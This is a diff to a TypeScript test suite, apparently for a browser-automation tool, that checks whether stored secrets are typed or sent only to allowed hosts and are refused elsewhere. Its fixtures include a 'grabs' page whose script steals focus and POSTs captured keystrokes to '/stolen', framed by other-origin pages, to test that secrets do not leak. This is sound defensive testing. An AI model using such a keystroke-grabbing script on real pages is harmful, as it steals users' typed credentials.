@@ -26,6 +26,9 @@ const pages: Record<string, () => string> = {
   "/said": () => `${form}<p id=said></p>`,
   "/framed": () => `<p>ours</p><iframe src="${otherUrl}/login" width=800 height=300></iframe>`,
   "/thief": () => `${form}<iframe src="${otherUrl}/grabs"></iframe>`,
+  "/keys": () =>
+    `<input type=number id=code><form method=post action=/sent><input id=user name=a><input name=b><button>Go</button></form>`,
+  "/robbed": () => `${form}<iframe src="http://shop.test/grabs"></iframe>`,
   "/grabs": () =>
     `<input id=grab><script>setInterval(() => { grab.focus(); if (grab.value) fetch("/stolen", { method: "POST", body: grab.value }); }, 1)</script>`,
 };
@@ -56,13 +59,15 @@ beforeAll(async () => {
   otherUrl = other.url.replace("127.0.0.1", "localhost");
   const hosts = `hosts: ["${new URL(site.url).host}"]`;
   product = await openProduct(
-    `devices: [{ name: browser, model: web }, { name: box, model: simulated }]
+    `devices: [{ name: browser, model: web, controllers: { web: { proxy: { server: "${site.url}" } } } }, { name: box, model: simulated }]
+environments: { staging: { urls: ["*://staging.test/app/*"], variables: { start: "http://app.test/start" } } }
 secrets:
+  ANYWHERE: { env: LABWRIGHT_SECRET_ANYWHERE, hosts: ["*"] }
   BOUND: { env: LABWRIGHT_SECRET_BOUND, ${hosts} }
   LIKE_BOUND: { env: LABWRIGHT_SECRET_LIKE_BOUND, ${hosts} }
   TOKEN: { env: LABWRIGHT_SECRET_TOKEN, ${hosts}, fields: any }`,
     {
-      ...{ BOUND: password, TOKEN: token, FREE: free },
+      ...{ BOUND: password, TOKEN: token, FREE: free, CODE: "48151", ANYWHERE: "anywhere-on-purpose" },
       ...{ LIKE_BOUND: "x".repeat(password.length), LIKE_FREE: "y".repeat(free.length) },
     },
   );
@@ -130,6 +135,43 @@ test.each([
   expect((await act(["input_text", { selector: "css=#pw", text: "{{secret.FREE}}" }])).error).toBeUndefined();
 });
 
+test("a secret without hosts goes to this machine and to hosts of the configuration, and no farther", async () => {
+  for (const [host, isAllowed] of [
+    ["shop.test", false],
+    ["staging.test", true],
+    ["app.test", true],
+  ] as const) {
+    await open(`http://${host}/login`);
+    for (const command of ["input_text", "type_text"]) {
+      const typed = await act([command, { selector: "css=#free", text: "{{secret.FREE}}" }]);
+      if (isAllowed) expect(typed.structured).toMatchObject({ status: "passed" });
+      else expect(typed).toMatchObject(refusal);
+      if (!isAllowed) expect(typed.text).toContain(`hosts: ["${host}"] }`);
+    }
+    await act(["input_text", { selector: "css=#free", text: "" }]);
+    const anywhere = await act(["type_text", { selector: "css=#free", text: "{{secret.ANYWHERE}}" }]);
+    expect(anywhere.structured).toMatchObject({ status: "passed" });
+  }
+  const asked = await client.call("execute_api_request", {
+    ...{ method: "POST", url: "http://shop.test/take", body: { k: "{{secret.FREE}}" } },
+  });
+  expect(asked).toMatchObject(refusal);
+  expect(seen.map(({ line }) => line)).not.toContain("POST /take");
+});
+
+test("a number takes a secret, and Enter and Tab next to one do what they do", async () => {
+  await open(`${site.url}/keys`);
+  await act(["input_text", { selector: "css=#code", text: "{{secret.CODE}}" }]);
+  expect((await checkValue("css=#code", "{{secret.CODE}}")).structured).toMatchObject({ pass: true });
+  const typed = await act([
+    "type_text",
+    { selector: "css=#user", text: "{{secret.FREE}}\t{{secret.CODE}}\n" },
+  ]);
+  expect(typed.structured).toMatchObject({ status: "passed" });
+  await vi.waitFor(() => expect(seen).toContainEqual(expect.objectContaining({ line: "POST /sent" })));
+  expect(seen.find(({ line }) => line === "POST /sent")?.body).toBe(`a=${free}&b=48151`);
+});
+
 test("a frame of another origin that takes the focus gets no key of it", async () => {
   await open(`${site.url}/thief`);
   await act(["type_text", { selector: "css=#pw", text: "nothing secret" }]);
@@ -138,6 +180,8 @@ test("a frame of another origin that takes the focus gets no key of it", async (
   seen.length = 0;
   await act(["type_text", { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
   await act(["input_text", { selector: "css=#pw", text: "{{secret.BOUND}}" }]);
+  await open("http://app.test/robbed");
+  await act(["type_text", { selector: "css=#pw", text: "{{secret.FREE}}" }]);
   await act(["wait", { ms: 50 }]);
   expect(seen.filter(({ line }) => line.endsWith("/stolen"))).toEqual([]);
 });
